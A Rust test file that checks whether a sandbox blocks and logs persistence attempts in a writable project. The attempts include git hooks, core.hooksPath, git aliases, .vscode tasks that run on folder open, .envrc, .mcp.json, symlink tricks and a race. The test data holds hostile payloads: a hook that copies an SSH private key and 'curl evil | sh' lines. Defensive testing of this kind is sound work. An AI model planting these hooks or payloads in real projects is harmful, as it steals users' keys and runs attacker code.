//! Escape class 12 (persistence through a granted write tree), run by
//! `tests/escape/persist.c` as the test user under a policy granting write
//! to a project: a git repository with a commit, an editor's `.vscode/`,
//! a direnv `.envrc` and an `.mcp.json`, all there before the server
//! starts.
//!
//! Blocked: the call failed and nothing changed on the host. Calls that
//! create a name (`O_CREAT` opens, `mkdir`, `rename`, `link`, `symlink`)
//! meet the persistence fence first (`EACCES`), whether the name exists
//! or not; what else reaches a path the launcher bound read-only fails
//! there (`EROFS`, `EBUSY` removing one). Recorded: the log holds a
//! `persist` record of that call (family, path, errno, `denied`).
//!
//! New names are rows too: a `git init`'s `.git`, a directory of hooks
//! renamed onto `.git`, a new `.envrc`, `.claude/`, a hard link and a
//! symlink named `.mcp.json`, and a second thread flipping the path of an
//! `O_CREAT` open between a benign name and `.envrc` for two seconds.

use std::path::{Path, PathBuf};

use serde_json::Value;

use super::{
    files::{guarded_policy, s, user_dir as owned_tempdir, Fs, Steps},
    report, Class, Row,
};
use crate::{
    harness::*,
    policies::{as_user_ok, committed_repo, user_dir, user_file},
};

const HOOK: &str = "#!/bin/sh\ncat ~/.ssh/id_ed25519 > /tmp/stolen\n";

/// A committed repository holding every family's files, as a project a
/// user opens in an editor would.
fn project(tag: &str) -> PathBuf {
    let root = owned_tempdir(tag);
    let repo = root.join("repo");
    committed_repo(&repo, "persist\n", "persist");
    user_dir(&repo.join(".vscode"));
    user_file(&repo.join(".vscode/settings.json"), "{}\n", 0o644);
    user_file(&repo.join(".envrc"), "export A=1\n", 0o644);
    user_file(&repo.join(".mcp.json"), "{\"mcpServers\": {}}\n", 0o644);
    user_file(&repo.join(".pre-commit-config.yaml"), "repos: []\n", 0o644);
    user_dir(&repo.join(".githooks"));
    as_user_ok(
        &repo,
        "/usr/bin/git",
        &["config", "core.hooksPath", ".githooks"],
    );
    repo
}

/// The `persist` record of `server`'s `call` (or its `at` form) on
/// `path`.
fn persist_record(d: &Daemon, server: &str, call: &str, path: &Path) -> Option<Value> {
    d.find_record(|r| {
        is_kind(r, "persist")
            && r["server"] == server
            && r["call"].as_str().is_some_and(|c| c.starts_with(call))
            && r["path"] == s(path)
    })
}

fn cite(r: &Option<Value>) -> String {
    match r {
        None => "no persist record".into(),
        Some(r) => format!(
            "audit persist family={} call={} path={} errno={} denied={} allowed={}",
            r["family"], r["call"], r["path"], r["errno"], r["denied"], r["allowed"]
        ),
    }
}

/// One refused step: the errno it saw is `errno`, `unchanged` holds on
/// the host, and its `persist` record is there and denied.
struct Expect<'a> {
    attack: &'a str,
    step: &'a str,
    errno: &'a str,
    call: &'a str,
    path: PathBuf,
    unchanged: bool,
}

fn row(d: &Daemon, steps: &Steps, server: &str, e: Expect<'_>) -> Row {
    let rec = persist_record(d, server, e.call, &e.path);
    Row::new(
        e.attack,
        steps.result(e.step) == e.errno && e.unchanged,
        rec.as_ref().is_some_and(|r| r["denied"] == true),
        format!("{}; {}", steps.seen(e.step), cite(&rec)),
    )
}

fn step(name: &str, op: &str, args: &[&Path], text: Option<&str>) -> String {
    let mut s = format!("{name}={op}");
    for a in args {
        s.push(',');
        s.push_str(a.to_str().unwrap());
    }
    if let Some(t) = text {
        s.push(',');
        s.push_str(t);
    }
    s
}

fn content(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

#[test]
fn persistence_paths_in_a_granted_project_are_refused_and_recorded() {
    let d = Daemon::start();
    let dir = tempdir("esc-persist-pol");
    let repo = project("esc-persist");
    let srv = "esc-persist";
    let pol = guarded_policy(&dir, srv, &Fs::project(repo.parent().unwrap()), "");
    let git = repo.join(".git");
    let hook = git.join("hooks/post-commit");
    let config = git.join("config");
    let lock = git.join("config.lock");
    let tasks = repo.join(".vscode/tasks.json");
    let envrc = repo.join(".envrc");
    let mcp = repo.join(".mcp.json");
    let payload = repo.join("payload");
    let innocent = repo.join("innocent");
    let moved = repo.join(".git-old");
    let pre_commit = git.join("hooks/pre-commit");
    let custom = repo.join(".githooks/pre-commit");
    let precommit = repo.join(".pre-commit-config.yaml");
    let fresh = repo.join("fresh");
    let fresh_hook = fresh.join(".git/hooks/post-checkout");
    let staged = fresh.join("staged");
    let config_before = content(&config);
    let steps = Steps::run(
        &d,
        &pol,
        "persist",
        &[
            step("hook", "write", &[&hook], Some(HOOK)),
            step(
                "hookspath",
                "write",
                &[&config],
                Some("[core]\n\thooksPath = /tmp/evil\n"),
            ),
            step(
                "lock",
                "write",
                &[&lock],
                Some("[alias]\n\tst = !sh -c 'cat ~/.ssh/*'\n"),
            ),
            step("alias", "rename", &[&lock, &config], None),
            step(
                "tasks",
                "write",
                &[&tasks],
                Some("{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}"),
            ),
            step(
                "precommit",
                "write",
                &[&precommit],
                Some("repos: [{repo: local, hooks: [{id: x, entry: sh}]}]\n"),
            ),
            step("envrc", "write", &[&envrc], Some("curl evil | sh\n")),
            step(
                "mcp",
                "write",
                &[&mcp],
                Some("{\"mcpServers\": {\"x\": {\"command\": \"sh\"}}}"),
            ),
            step("payload", "write", &[&payload], Some("curl evil | sh\n")),
            step("onto", "rename", &[&payload, &envrc], None),
            step("unlink", "unlink", &[&envrc], None),
            step(
                "link",
                "symlink",
                &[Path::new(".git/hooks/pre-push"), &innocent],
                None,
            ),
            step("via", "write", &[&innocent], Some(HOOK)),
            step("swap", "rename", &[&git, &moved], None),
            step("cd", "chdir", &[&git], None),
            step(
                "relative",
                "write",
                &[Path::new("hooks/pre-commit")],
                Some(HOOK),
            ),
            // Late: the daemon learns of core.hooksPath from the launch
            // report (see its persist watch).
            step("custom", "write", &[&custom], Some(HOOK)),
            // Names made after launch: the fence's.
            step("newdir", "mkdir", &[&fresh], None),
            step("newgit", "mkdir", &[&fresh.join(".git")], None),
            step("newhooks", "mkdir", &[&fresh.join(".git/hooks")], None),
            step("newhook", "write", &[&fresh_hook], Some(HOOK)),
            step("staged", "mkdir", &[&staged], None),
            step("stagedhooks", "mkdir", &[&staged.join("hooks")], None),
            step(
                "stagedhook",
                "write",
                &[&staged.join("hooks/post-commit")],
                Some(HOOK),
            ),
            step("plant", "rename", &[&staged, &fresh.join(".git")], None),
            step("newenvrc", "write", &[&fresh.join(".envrc")], Some(HOOK)),
            step("newclaude", "mkdir", &[&fresh.join(".claude")], None),
            step("hardlink", "link", &[&payload, &fresh.join(".envrc")], None),
            step(
                "newlink",
                "symlink",
                &[&payload, &fresh.join(".mcp.json")],
                None,
            ),
            step("race", "race", &[&fresh], None),
        ],
    );
    let no_hook = !hook.exists() && !git.join("hooks/pre-push").exists();
    let rows = vec![
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "write .git/hooks/post-commit for the user's next commit",
                step: "hook",
                errno: "EACCES",
                call: "open",
                path: hook.clone(),
                unchanged: no_hook,
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "set core.hooksPath in .git/config",
                step: "hookspath",
                errno: "EACCES",
                call: "open",
                path: config.clone(),
                unchanged: content(&config) == config_before,
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "add a `!` alias as git does: config.lock renamed onto .git/config",
                step: "alias",
                errno: "EACCES",
                call: "rename",
                path: config.clone(),
                unchanged: content(&config) == config_before,
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "write a hook into the directory core.hooksPath names (.githooks)",
                step: "custom",
                errno: "EACCES",
                call: "open",
                path: custom.clone(),
                unchanged: !custom.exists(),
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "add a local hook to .pre-commit-config.yaml",
                step: "precommit",
                errno: "EACCES",
                call: "open",
                path: precommit.clone(),
                unchanged: content(&precommit) == "repos: []\n",
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "create .vscode/tasks.json running on folder open",
                step: "tasks",
                errno: "EACCES",
                call: "open",
                path: tasks.clone(),
                unchanged: !tasks.exists(),
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "rewrite .envrc for direnv",
                step: "envrc",
                errno: "EACCES",
                call: "open",
                path: envrc.clone(),
                unchanged: content(&envrc) == "export A=1\n",
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "rewrite .mcp.json to start a server of its own",
                step: "mcp",
                errno: "EACCES",
                call: "open",
                path: mcp.clone(),
                unchanged: content(&mcp) == "{\"mcpServers\": {}}\n",
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "rename a written file onto .envrc",
                step: "onto",
                errno: "EACCES",
                call: "rename",
                path: envrc.clone(),
                unchanged: content(&envrc) == "export A=1\n",
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "unlink .envrc to put a symlink in its place",
                step: "unlink",
                errno: "EBUSY",
                call: "unlink",
                path: envrc.clone(),
                unchanged: envrc.is_file(),
            },
        ),
        symlink_row(&d, &steps, srv, &innocent, &git.join("hooks/pre-push")),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "rename .git away to plant a fresh one with hooks",
                step: "swap",
                errno: "EACCES",
                call: "rename",
                path: git.clone(),
                unchanged: git.join("HEAD").exists() && !moved.exists(),
            },
        ),
        row(
            &d,
            &steps,
            srv,
            Expect {
                attack: "write hooks/pre-commit relative to a chdir into .git",
                step: "relative",
                errno: "EACCES",
                call: "open",
                path: pre_commit.clone(),
                unchanged: !pre_commit.exists(),
            },
        ),
        opt_in_row(&d, &dir),
    ];
    let new_names = [
        (
            "git init in the tree: a new .git",
            "newgit",
            "mkdir",
            fresh.join(".git"),
        ),
        (
            "a directory of hooks made elsewhere, renamed onto .git",
            "plant",
            "rename",
            fresh.join(".git"),
        ),
        (
            "write a new .envrc",
            "newenvrc",
            "open",
            fresh.join(".envrc"),
        ),
        (
            "make a new .claude/",
            "newclaude",
            "mkdir",
            fresh.join(".claude"),
        ),
        (
            "hard-link a written file as a new .envrc",
            "hardlink",
            "link",
            fresh.join(".envrc"),
        ),
        (
            "a new symlink named .mcp.json",
            "newlink",
            "symlink",
            fresh.join(".mcp.json"),
        ),
    ];
    let mut rows = rows;
    for (attack, st, call, path) in new_names {
        let unchanged = std::fs::symlink_metadata(&path).is_err();
        rows.push(row(
            &d,
            &steps,
            srv,
            Expect {
                attack,
                step: st,
                errno: "EACCES",
                call,
                path,
                unchanged,
            },
        ));
    }
    rows.push(race_row(&d, &steps, srv, &fresh));
    report(Class::Persistence, &rows);
    // Without a .git, git init's next steps find nothing to write into.
    assert_eq!(steps.result("newhooks"), "ENOENT", "{}", steps.out);
    assert!(!fresh_hook.exists());
}

/// A second thread flips the path of an `O_CREAT` open between
/// `benign` and `.envrc` for two seconds: the fence copies the path once,
/// so every `.envrc` it saw was refused and none was ever made.
fn race_row(d: &Daemon, steps: &Steps, srv: &str, dir: &Path) -> Row {
    let envrc = dir.join(".envrc");
    let rec = persist_record(d, srv, "open", &envrc)
        .filter(|r| r["denied"] == true && r["errno"] == "EACCES");
    let detail = steps.detail("race");
    let count = |k: &str| -> i64 {
        (detail.split(' '))
            .find_map(|w| w.strip_prefix(k)?.parse().ok())
            .unwrap_or(-1)
    };
    Row::new(
        "a second thread flips an O_CREAT open's path between benign and .envrc (2 s)",
        steps.result("race") == "EACCES"
            && count("envrc=") == 0
            && count("benign=") > 0
            && count("refused=") > 0
            && !envrc.exists(),
        rec.is_some(),
        format!("{}; {}", steps.seen("race"), cite(&rec)),
    )
}

/// A symlink to a hook's name, then a write through it: the fence follows
/// the dangling link and refuses the hook's name.
fn symlink_row(d: &Daemon, steps: &Steps, srv: &str, link: &Path, target: &Path) -> Row {
    let rec = persist_record(d, srv, "symlink", target);
    let open = persist_record(d, srv, "open", target).filter(|r| r["denied"] == true);
    Row::new(
        "symlink an innocent name to .git/hooks/pre-push, write through it",
        steps.result("via") == "EACCES"
            && !target.exists()
            && link
                .symlink_metadata()
                .is_ok_and(|m| m.file_type().is_symlink()),
        rec.is_some() && open.is_some(),
        format!(
            "{}; {}; {}; {}",
            steps.seen("link"),
            steps.seen("via"),
            cite(&rec),
            cite(&open)
        ),
    )
}

/// `allow_persistence = ["git_hooks"]` opens the hooks, by name, and
/// nothing else: the hook is written (recorded as allowed) and
/// `.git/config` is still refused.
fn opt_in_row(d: &Daemon, dir: &Path) -> Row {
    let repo = project("esc-persist-optin");
    let srv = "esc-persist-optin";
    let pol = guarded_policy(
        dir,
        srv,
        &Fs::project(repo.parent().unwrap()),
        "allow_persistence = [\"git_hooks\"]",
    );
    let hook = repo.join(".git/hooks/post-commit");
    let config = repo.join(".git/config");
    let steps = Steps::run(
        d,
        &pol,
        "persist",
        &[
            step("hook", "write", &[&hook], Some(HOOK)),
            step("config", "write", &[&config], Some("[core]\n")),
        ],
    );
    let allowed = persist_record(d, srv, "open", &hook);
    let refused = persist_record(d, srv, "open", &config);
    Row::new(
        "a policy naming git_hooks in allow_persistence writes hooks, and only hooks",
        steps.result("hook") == "OK"
            && content(&hook) == HOOK
            && steps.result("config") == "EACCES",
        allowed
            .as_ref()
            .is_some_and(|r| r["allowed"] == true && r["denied"] == false)
            && refused.as_ref().is_some_and(|r| r["denied"] == true),
        format!(
            "{}; {}; {}; {}",
            steps.seen("hook"),
            steps.seen("config"),
            cite(&allowed),
            cite(&refused)
        ),
    )
}
